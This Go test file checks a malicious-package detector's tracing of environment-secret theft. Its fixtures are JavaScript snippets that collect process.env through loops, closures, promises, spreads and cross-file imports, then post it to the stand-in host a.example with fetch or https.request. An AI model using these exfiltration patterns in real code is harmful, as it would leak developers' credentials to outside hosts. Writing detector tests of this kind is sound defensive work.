package behavior

import (
	"slices"
	"strings"
	"testing"
)

// TestFlows: the steps that evidence names, from where data comes from to where
// it leaves, for each way that data can take.
func TestFlows(t *testing.T) {
	c := catalogue(t)
	const send = "const https = require('https'); "
	for name, test := range map[string]struct {
		files map[string]string
		want  []string // first and last step
	}{
		"in one line":      {map[string]string{"index.js": send + "https.request('https://a.example').write(JSON.stringify(process.env))"}, []string{"index.js:1 process.env", "index.js:1 https.request(…).write"}},
		"a variable":       {map[string]string{"index.js": send + "\nconst all = { ...process.env }\nconst body = JSON.stringify(all)\nfetch('https://a.example', { body })"}, []string{"index.js:2 process.env", "index.js:4 fetch"}},
		"a parameter":      {map[string]string{"index.js": send + "\nfunction post(body) {\n  fetch('https://a.example', { body })\n}\npost(JSON.stringify(process.env))"}, []string{"index.js:5 process.env", "index.js:3 fetch"}},
		"a returned value": {map[string]string{"index.js": "function all() {\n  return JSON.stringify(process.env)\n}\nfetch('https://a.example', { body: all() })"}, []string{"index.js:2 process.env", "index.js:4 fetch"}},
		"a closure":        {map[string]string{"index.js": "const body = JSON.stringify(process.env)\nexports.run = () => {\n  const inner = () => fetch('https://a.example', { body })\n  inner()\n}"}, []string{"index.js:1 process.env", "index.js:3 fetch"}},
		"a callback":       {map[string]string{"index.js": "const each = (list, f) => f(list)\neach(JSON.stringify(process.env), body => {\n  fetch('https://a.example', { body })\n})"}, []string{"index.js:2 process.env", "index.js:3 fetch"}},
		"a promise":        {map[string]string{"index.js": "const all = async () => JSON.stringify(process.env)\nall().then(body => {\n  fetch('https://a.example', { body })\n})"}, []string{"index.js:1 process.env", "index.js:3 fetch"}},
		"awaited":          {map[string]string{"index.js": "const all = async () => JSON.stringify(process.env)\nexports.run = async () => {\n  const body = await all()\n  await fetch('https://a.example', { body })\n}"}, []string{"index.js:1 process.env", "index.js:4 fetch"}},
		"an exported function": {map[string]string{"index.js": "const { all } = require('./all')\nfetch('https://a.example', { body: all() })",
			"all.js": "exports.all = function () {\n  return JSON.stringify(process.env)\n}"}, []string{"all.js:2 process.env", "index.js:2 fetch"}},
		"two files": {map[string]string{"index.js": "require('./send')(require('./all').all())", "all.js": "exports.all = () => JSON.stringify({ env: process.env })",
			"send.js": "module.exports = body => {\n  fetch('https://a.example', { body })\n}"}, []string{"all.js:1 process.env", "send.js:2 fetch"}},
		"an import": {map[string]string{"index.mjs": "import { all } from './all.mjs'\nfetch('https://a.example', { body: all })", "all.mjs": "export const all = JSON.stringify(process.env)",
			"package.json": `{"name": "a", "version": "1.0.0", "main": "index.mjs"}`}, []string{"all.mjs:1 process.env", "index.mjs:2 fetch"}},
	} {
		t.Run(name, func(t *testing.T) {
			files := map[string][]byte{"package.json": []byte(`{"name": "a", "version": "1.0.0"}`)}
			for file, code := range test.files {
				files[file] = []byte(code)
			}
			var flow []string
			for _, b := range find(t, c, files).Behaviors {
				if b.ID == "steal/env-secrets" {
					flow = b.Evidence[0].Flow
				}
			}
			if len(flow) == 1 { // all in one line
				flow = strings.SplitAfterN(flow[0], "process.env ", 2)
				flow = []string{strings.TrimSpace(flow[0]), "index.js:1 " + flow[1]}
			}
			if len(flow) < 2 || !slices.Equal([]string{flow[0], flow[len(flow)-1]}, test.want) {
				t.Errorf("%q, want it to go from %q", flow, test.want)
			}
		})
	}
}

func TestSpoken(t *testing.T) {
	for api, want := range map[string]string{
		"globalThis.fetch": "fetch", "os.hostname": "os.hostname", "https.get@on@": "https.get(callback).on(callback)", "net.Socket#connect": "net.Socket(…).connect",
		"https.request##": "https.request(…)(…)", "@parcel/watcher.subscribe@path": "@parcel/watcher.subscribe(callback).path", "@parcel/watcher": "@parcel/watcher", "": "", "@": "@",
	} {
		if got := Spoken(api); got != want {
			t.Errorf("%s: %s, want %s", api, got, want)
		}
	}
}

// TestCollectedData: data that is gathered in something before it leaves.
func TestCollectedData(t *testing.T) {
	c := catalogue(t)
	for name, code := range map[string]string{
		"keys, one by one":    "const out = {}\nObject.keys(process.env).forEach(function (k) { out[k] = process.env[k] })\nsend(JSON.stringify(out))",
		"for in":              "const out = {}\nfor (const k in process.env) { if (k !== 'x') out[k] = process.env[k] }\nsend(JSON.stringify({ a: 1, out }))",
		"a property":          "const out = {}\nout.env = process.env\nsend(JSON.stringify(out))",
		"pushed":              "const out = []\nout.push(process.env)\nsend(JSON.stringify(out))",
		"pushed pairs":        "const out = []\nfor (const k in process.env) out.push(k + '=' + process.env[k])\nsend(out.join('&'))",
		"entries":             "send(Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('\\n'))",
		"entries, filtered":   "send(JSON.stringify(Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN/.test(k)))))",
		"assigned":            "const o = { a: 1 }\nObject.assign(o, process.env)\nsend(JSON.stringify(o))",
		"the rest":            "const { PATH, ...all } = process.env\nsend(JSON.stringify(all))",
		"a text":              "let s = ''\nfor (const k in process.env) s += k + '=' + process.env[k]\nsend(s)",
		"reduced":             "send(JSON.stringify(Object.keys(process.env).reduce((o, k) => { o[k] = process.env[k]; return o }, {})))",
		"an instance":         "class C {\n  constructor() { this.data = {} }\n  collect() { this.data.env = process.env; return this }\n  send() { send(JSON.stringify(this.data)) }\n}\nnew C().collect().send()",
		"a map":               "const m = new Map()\nfor (const [k, v] of Object.entries(process.env)) m.set(k, v)\nsend(JSON.stringify([...m]))",
		"parameters of a URL": "const p = new URLSearchParams()\nfor (const k in process.env) p.append(k, process.env[k])\nsend(p.toString())",
		"defined":             "const o = {}\nObject.defineProperty(o, 'env', { value: process.env, enumerable: true })\nsend(JSON.stringify(o))",
		"nested":              "const o = { a: { b: {} } }\no.a.b.env = process.env\nsend(JSON.stringify(o))",
		"another's":           "",
		"a child's":           "",
	} {
		want := true
		switch name {
		case "another's":
			want, code = false, "const env = {}\nObject.assign(env, process.env)\nconst out = {}\nout.folder = process.cwd()\nexports.env = env\nsend(JSON.stringify(out))"
		case "a child's":
			want, code = false, "const env = { ...process.env }\nenv.MORE = '1'\nrequire('child_process').spawn('ls', { env })\nconst p = new URLSearchParams()\np.append('version', '1')\nsend(p.toString())"
		}
		files := map[string][]byte{"package.json": []byte(`{"name": "a", "version": "1.0.0"}`),
			"index.js": []byte("const https = require('https')\nconst send = body => https.request({ host: 'a.example', method: 'POST' }).end(body)\n" + code)}
		found := false
		for _, b := range find(t, c, files).Behaviors {
			found = found || b.ID == "steal/env-secrets"
		}
		if found != want {
			t.Errorf("%s: found %v", name, found)
		}
	}
}
